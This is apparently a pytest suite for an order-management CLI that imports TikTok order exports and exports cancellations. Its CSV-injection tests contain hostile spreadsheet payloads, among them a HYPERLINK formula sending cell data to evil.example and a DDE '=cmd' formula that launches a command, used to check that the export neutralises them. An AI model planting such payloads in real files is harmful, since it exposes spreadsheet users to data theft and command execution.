"""`orderdesk import tiktok` and `orderdesk export cancellations` through tui.cli.main:
summaries, exit codes, a round trip (import → cancel items → export), re-import,
dry runs and bad input. Sample exports are invented (tests/core/tiktok_samples.py)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.cli.conftest import Orderdesk
from tests.databases import fresh_url
from tests.core.tiktok_samples import HEADER, NOW, oid, pkg, row, write_csv, write_xlsx


@pytest.fixture
def fresh(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("ORDERDESK_DATABASE_URL", raising=False)
    monkeypatch.setenv("ORDERDESK_NOW", NOW)
    return Orderdesk(fresh_url(tmp_path, "fresh"), capsys)


@pytest.fixture
def export(tmp_path):
    return write_csv(tmp_path / "orders.csv", [
        row(oid(1)), row(oid(1), Seller_SKU="TEE-M", Product_Name="Cotton tee", Quantity="1",
                         SKU_Unit_Original_Price="$19.99", SKU_Subtotal_Before_Discount="$19.99"),
        row(oid(2), Order_Status="Cancelled", Order_Substatus="", Cancel_By="Buyer",
            Cancel_Reason="Bought by mistake", Cancelled_Time="14/11/2026 11:00:00"),
        row(oid(3), Order_Status="Shipped", Order_Substatus="In transit", Package_ID=pkg(3),
            RTS_Time="15/11/2026 10:00:00", Shipped_Time="15/11/2026 18:00:00", Tracking_ID="TT3"),
        row(oid(4), Quantity="lots"),
    ], encoding="utf-8-sig")


def test_import_prints_a_summary_and_the_orders_are_there(fresh, export):
    run = fresh("import", "tiktok", str(export))
    assert run.code == 0, run.err
    assert "orders added 3, updated 0, unchanged 0, skipped 1" in run.out
    assert "row 6: order 577100000000000004: Quantity 'lots' is not a whole number" in run.out
    assert run.err == ""  # no progress bar when stderr is not a terminal
    statuses = {o["id"]: o["status"] for o in fresh.orders()}
    assert statuses == {oid(1): "awaiting_shipment", oid(2): "cancelled", oid(3): "in_transit"}
    shown = fresh.ok("orders", "show", oid(2))
    assert shown["cancellations"][0]["reason"] == "bought_by_mistake"


def test_import_json_summary(fresh, export):
    s = fresh.ok("import", "tiktok", str(export))
    assert (s["added"], s["skipped"], s["rows"], s["orders_in_file"]) == (3, 1, 5, 4)
    assert s["problems"] == [{"row": 6, "order_id": oid(4),
                              "problem": "Quantity 'lots' is not a whole number"}]
    assert s["skipped_orders"] == [{"order_id": oid(4), "rows": [6],
                                    "why": "Quantity 'lots' is not a whole number"}]


def test_round_trip_import_cancel_items_export(fresh, export, tmp_path):
    fresh.ok("import", "tiktok", str(export))
    order = fresh.ok("orders", "show", oid(1))
    line = next(l for l in order["lines"] if l["sku"] == "MUG-01")
    assert line["item_cancel"]["allowed"] and line["item_cancel"]["max_quantity"] == 2
    done = fresh.ok("cancel", oid(1), "--as", "seller", "--reason", "out_of_stock", "--item", f"{line['id']}=1")
    assert done["lines"] == [{"line_id": line["id"], "quantity": 1, "refund": done["lines"][0]["refund"],
                              "refund_subtotal": done["lines"][0]["refund_subtotal"],
                              "refund_tax": done["lines"][0]["refund_tax"]}]

    exported = fresh.ok("export", "cancellations")
    assert exported["count"] == 2
    mine = next(c for c in exported["cancellations"] if c["id"] == done["id"])
    assert (mine["order_id"], mine["role"], mine["reason"], mine["reason_text"], mine["source"]) == \
        (oid(1), "seller", "out_of_stock", "Out of stock", "orderdesk")
    assert mine["lines"][0]["line_id"] == line["id"] and mine["lines"][0]["quantity"] == 1
    assert mine["lines"][0]["sku"] == "MUG-01" and mine["refund"] == done["refund"]
    imported = next(c for c in exported["cancellations"] if c["order_id"] == oid(2))
    assert imported["source"] == "tiktok_import" and imported["role"] == "buyer"

    # CSV: one row per cancelled line; the refund columns add up to the cancellations' totals
    out = tmp_path / "cancellations.csv"
    wrote = fresh.ok("export", "cancellations", "-o", str(out))
    assert wrote == {"file": str(out), "format": "csv", "cancellations": 2, "rows": 2}
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["order_id"] for r in rows] == [oid(2), oid(1)]
    total = sum(c["refund"]["total"] for c in exported["cancellations"])
    assert round(sum(float(r["refund_total"]) for r in rows) * 100) == total
    assert rows[1]["line_id"] == line["id"] and rows[1]["cancelled_quantity"] == "1"
    assert rows[1]["reason"] == "out_of_stock" and rows[1]["role"] == "seller"

    # CSV on standard output, and --since
    run = fresh("export", "cancellations")
    assert run.code == 0 and run.out.splitlines()[0].startswith("cancellation_id,order_id,shop,buyer")
    later = fresh.ok("export", "cancellations", "--since", "2026-11-15")
    assert [c["id"] for c in later["cancellations"]] == [done["id"]]

    # JSON to a file
    out = tmp_path / "c.json"
    assert fresh.ok("export", "cancellations", "--format", "json", "-o", str(out))["cancellations"] == 2
    assert json.loads(out.read_text())["count"] == 2

    # re-importing the export now skips the order changed in orderdesk, and says why
    again = fresh.ok("import", "tiktok", str(export))
    assert (again["added"], again["updated"], again["unchanged"], again["skipped"]) == (0, 0, 2, 2)
    assert any("changed in orderdesk" in p["problem"] and p["row"] == 2 for p in again["problems"])


def test_reimport_is_idempotent_and_applies_updates(fresh, export, tmp_path):
    fresh.ok("import", "tiktok", str(export))
    before = fresh.dump()
    again = fresh.ok("import", "tiktok", str(export))
    assert (again["added"], again["updated"], again["unchanged"]) == (0, 0, 3)
    orders = fresh.orders()
    newer = write_csv(tmp_path / "newer.csv", [
        row(oid(3), Order_Status="Shipped", Order_Substatus="Delivered", Package_ID=pkg(3),
            RTS_Time="15/11/2026 10:00:00", Shipped_Time="15/11/2026 18:00:00",
            Delivered_Time="18/11/2026 09:00:00", Tracking_ID="TT3"),
    ])
    s = fresh.ok("import", "tiktok", str(newer))
    assert (s["added"], s["updated"]) == (0, 1)
    assert len(fresh.orders()) == len(orders)
    assert fresh.ok("orders", "show", oid(3))["status"] == "delivered"
    assert before != fresh.dump()


def test_xlsx_through_the_cli(fresh, tmp_path):
    header = ["Order ID", "Order Status", "Seller SKU", "Quantity", "SKU Unit Original Price",
              "Created Time", "Buyer Username"]
    path = write_xlsx(tmp_path / "o.xlsx", [[oid(9), "To ship", "MUG-01", 1, "$12.50",
                                            "14/11/2026 09:15:00", "xl"]], header)
    s = fresh.ok("import", "tiktok", str(path))
    assert s["format"] == "xlsx" and s["added"] == 1


def test_dry_run_leaves_the_database_unchanged(fresh, export):
    fresh.ok("seed", "demo")  # a database with data (and three shops)
    before = fresh.dump()
    s = fresh.ok("import", "tiktok", str(export), "--shop", "Imported Shop", "--dry-run")
    assert s["dry_run"] and s["added"] == 3 and s["shop_created"]
    assert fresh.dump() == before
    run = fresh("import", "tiktok", str(export), "--shop", "Imported Shop", "--dry-run")
    assert run.code == 0 and "Dry run: nothing was written." in run.out
    assert fresh.dump() == before


@pytest.mark.parametrize("make, code, words", [
    (lambda p: p / "missing.csv", "bad_input", "Cannot read"),
    (lambda p: write_csv(p / "x.csv", [row(oid(1))], header=[h for h in HEADER if h != "Order ID"]),
     "bad_input", "Order ID"),
    (lambda p: (p / "e.csv").write_text("") or p / "e.csv", "bad_input", "empty"),
])
def test_a_file_that_cannot_be_imported_exits_2_and_changes_nothing(fresh, tmp_path, make, code, words):
    fresh.ok("seed", "demo")
    before = fresh.dump()
    run = fresh("import", "tiktok", str(make(tmp_path)), "--shop", "Lumen Home", "--json")
    assert run.code == 2 and run.json["error"]["code"] == code and words in run.json["error"]["message"]
    assert fresh.dump() == before


def test_several_shops_need_shop(od, export):
    before = od.dump()
    run = od("import", "tiktok", str(export), "--json")
    assert run.code == 2 and "--shop" in run.json["error"]["message"]
    assert od.dump() == before
    run = od("import", "tiktok", str(export))
    assert run.code == 2 and "several shops" in run.err


@pytest.mark.parametrize("args, words", [
    (["--since", "last week"], "--since"),
    (["--format", "csv"], "--format json"),
    (["--format", "xml"], "xml"),
])
def test_export_bad_input(od, args, words):
    run = od("export", "cancellations", *args, "--json")
    assert run.code == 2 and words in run.json["error"]["message"]


def test_export_on_the_demo_data(od):
    exported = od.ok("export", "cancellations")
    assert exported["count"] >= 5
    for c in exported["cancellations"]:
        assert {"id", "order_id", "shop", "buyer", "role", "reason", "reason_text", "lines", "refund",
                "created_at", "status", "source"} <= c.keys()
        assert c["refund"]["total"] == c["refund"]["subtotal"] + c["refund"]["shipping"] + c["refund"]["tax"]
        assert c["source"] == "orderdesk"


def test_a_long_list_of_problems_is_cut_short_for_people_but_not_in_json(fresh, tmp_path):
    path = write_csv(tmp_path / "bad.csv", [row(oid(100 + n), Order_Status="Lost") for n in range(120)]
                     + [row(oid(99))])
    run = fresh("import", "tiktok", str(path))
    assert run.code == 0 and "row 101:" in run.out and "row 102:" not in run.out
    assert "... and 20 more (--json lists them all)" in run.out
    s = fresh.ok("import", "tiktok", str(path))
    assert len(s["problems"]) == 120 and s["unchanged"] == 1


def test_a_progress_bar_on_a_terminal_but_never_with_json(fresh, export, monkeypatch):
    import sys

    run = fresh("import", "tiktok", str(export), "--dry-run")
    assert run.err == ""
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    run = fresh("import", "tiktok", str(export), "--dry-run")
    assert run.code == 0 and "Reading rows" in run.err and "Writing orders" in run.err
    assert "Reading rows" not in run.out
    run = fresh("import", "tiktok", str(export), "--dry-run", "--json")
    assert run.err == "" and run.json["dry_run"]


# -- files that are not exports: refused at once, never a traceback ---------------------------------
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("kind", ["a named pipe (FIFO)", "a character device"])
def test_a_fifo_or_a_device_is_refused_at_once_with_exit_2(tmp_path, kind):
    """In a child process with a timeout: a FIFO nobody writes to must not block the
    import, and /dev/zero must not be read until memory runs out."""
    if kind.startswith("a named pipe"):
        path = tmp_path / "orders.csv"
        os.mkfifo(path)
    else:
        path = Path("/dev/zero")
    done = subprocess.run(
        [sys.executable, "-m", "tui.cli", "--database-url", fresh_url(tmp_path, "db"), "import", "tiktok",
         str(path), "--json"], cwd=ROOT, capture_output=True, text=True, timeout=60,
        env={**os.environ, "ORDERDESK_NOW": NOW}, check=False)
    assert done.returncode == 2, done.stderr
    assert json.loads(done.stdout) == {"error": {"code": "bad_input", "message": (
        f"{path} is {kind}, not a file. Save the export as a file (CSV or XLSX) and import that.")}}
    assert "Traceback" not in done.stderr


def _kept_the_contract(run, before: dict | None = None, after: dict | None = None) -> dict:
    """Exit 0 with the summary, or exit 2 with the JSON error and nothing changed."""
    assert run.code in (0, 2), run.out + run.err
    assert "Traceback" not in run.out + run.err
    out = json.loads(run.out)
    if run.code == 2:
        assert list(out) == ["error"] and out["error"]["code"] == "bad_input" and out["error"]["message"]
        assert before == after
    else:
        assert out["added"] + out["updated"] + out["unchanged"] + out["skipped"] == out["orders_in_file"]
        assert all(2 <= p["row"] <= out["rows"] + 2 and len(p["problem"]) < 400 for p in out["problems"])
    return out


_SNIFFED = [b"", b"PK\x03\x04", b"PK\x03\x04\x14\x00\x00\x00\x08\x00", b"\xef\xbb\xbf", b"\xff\xfe",
            b"\xfe\xff", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", ",".join(HEADER).encode() + b"\n",
            b"Order ID;Order Status;Seller SKU;Quantity;Created Time\n"]


@settings(max_examples=40, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(start=st.sampled_from(_SNIFFED), data=st.binary(max_size=4000))
def test_garbage_bytes_never_crash_the_import(fresh, tmp_path, start, data):
    path = tmp_path / "garbage"
    path.write_bytes(start + data)
    fresh.ok("orders", "list")  # the database exists
    before = fresh.dump()
    run = fresh("import", "tiktok", str(path), "--json")
    _kept_the_contract(run, before, fresh.dump() if run.code else None)


_NASTY = ["", " ", "NaN", "nan", "inf", "-inf", "Infinity", "1e999", "-1", "1e308", "9" * 40, "0", "0.001",
          "0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59-05:00", "99999-01-01", "31/12/9999 23:59:59",
          "00/00/0000", "12/13/2026 25:61:61 PM", "2026-02-30", "=1+1", "\x00", "a\x00b", "\r\n", '"', "'",
          "$", "€1.234,56", "1,2,3", "(5)", "٣", "²", "5.76E+17", "To ship", "Cancelled", "Shipped", "Buyer",
          "Out of stock", "Cancel", "Return/Refund", "x" * 201]
_CELL = st.one_of(st.text(max_size=30), st.sampled_from(_NASTY), st.integers().map(str), st.floats().map(str),
                  st.builds(lambda c, n: c * n, st.characters(), st.integers(10_001, 150_000)))
_ROW = st.builds(lambda n, fields: row(oid(n), **fields), st.integers(1, 4),
                 st.dictionaries(st.sampled_from([h.replace("#", "").strip().replace(" ", "_").replace("/", "_")
                                                  for h in HEADER]), _CELL, max_size=6))


@settings(max_examples=60, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(rows=st.lists(_ROW, min_size=1, max_size=5))
def test_random_cells_are_bad_rows_never_a_crash(fresh, tmp_path, rows):
    """Real imports (not dry runs), so the database's own limits are met too."""
    path = write_csv(tmp_path / "random.csv", rows)
    fresh.ok("orders", "list")  # the database exists
    before = fresh.dump()
    run = fresh("import", "tiktok", str(path), "--json")
    _kept_the_contract(run, before, fresh.dump() if run.code else None)


# -- CSV injection: the export is opened in spreadsheets ---------------------------------------------
_FORMULAS = {"Buyer_Username": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
             "Product_Name": "+1+1", "Variation": "@SUM(1+1)", "Seller_SKU": "-2+3"}


def test_the_csv_export_neutralises_formulas_and_the_json_keeps_them(fresh, tmp_path):
    path = write_csv(tmp_path / "formulas.csv", [
        row(oid(1), Order_Status="Cancelled", Order_Substatus="", Cancel_By="Buyer",
            Cancel_Reason="Bought by mistake", Cancelled_Time="14/11/2026 11:00:00", **_FORMULAS),
        row(oid(2), Order_Status="Cancelled", Order_Substatus="", Cancelled_Time="14/11/2026 12:00:00",
            Buyer_Username="@buyer", Product_Name="=cmd|' /C calc'!A0", Seller_SKU="MUG-01"),
    ])
    assert fresh.ok("import", "tiktok", str(path))["added"] == 2
    out = tmp_path / "cancellations.csv"
    fresh.ok("export", "cancellations", "-o", str(out))
    on_stdout = fresh("export", "cancellations")
    assert on_stdout.code == 0 and on_stdout.out == out.read_text(encoding="utf-8")
    header, *rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == 2
    for cells in rows:
        for cell in cells:  # no cell a spreadsheet would run, but numbers stay numbers
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"-?\d+\.\d\d", cell)
    first, second = (dict(zip(header, cells)) for cells in rows)
    assert first["buyer"] == "'" + _FORMULAS["Buyer_Username"]
    assert (first["sku"], first["title"]) == ("'-2+3", "'+1+1, @SUM(1+1)")
    assert (second["buyer"], second["title"]) == ("'@buyer", "'=cmd|' /C calc'!A0, Blue")
    # the amounts are untouched numbers, and add up to the JSON's refunds
    exported = fresh.ok("export", "cancellations")
    assert round(sum(float(r["refund_total"]) for r in (first, second)) * 100) == \
        sum(c["refund"]["total"] for c in exported["cancellations"])
    # JSON is not a spreadsheet: it keeps the text as it is
    raw = {c["order_id"]: c for c in exported["cancellations"]}
    assert raw[oid(1)]["buyer"] == _FORMULAS["Buyer_Username"]
    assert (raw[oid(1)]["lines"][0]["sku"], raw[oid(1)]["lines"][0]["title"]) == ("-2+3", "+1+1, @SUM(1+1)")
    assert raw[oid(2)]["lines"][0]["title"] == "=cmd|' /C calc'!A0, Blue"


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcalc", "'\tcalc"),
    ("\rcalc", "'\rcalc"), ("- 1", "'- 1"), ("-1.50", "-1.50"), ("-3", "-3"), ("12.30", "12.30"),
    ("Mug =1", "Mug =1"), ("", ""), (7, 7), (None, None),
])
def test_a_cell_is_made_inert_only_when_it_starts_like_a_formula(cell, written):
    from core.export import inert

    assert inert(cell) == written


def test_a_negative_amount_stays_a_number_in_the_csv():
    from core.export import write_csv as export_csv

    refund = {"subtotal": -150, "shipping": 0, "tax": 0, "total": -150}
    cancellation = {"id": "c", "order_id": "o", "shop": "+Shop", "buyer": "b", "currency": "USD",
                    "source": "orderdesk", "type": "cancel", "role": "seller", "scope": "order",
                    "package_id": None, "status": "success", "reason": "out_of_stock",
                    "reason_text": "Out of stock", "reject_reason": None,
                    "created_at": "2026-11-14T00:00:00+00:00", "updated_at": "2026-11-14T00:00:00+00:00",
                    "lines": [], "refund": refund}
    out = io.StringIO()
    export_csv(out, [cancellation])
    written = dict(zip(*csv.reader(io.StringIO(out.getvalue()))))
    assert (written["shop"], written["refund_subtotal"], written["refund_total"]) == ("'+Shop", "-1.50", "-1.50")
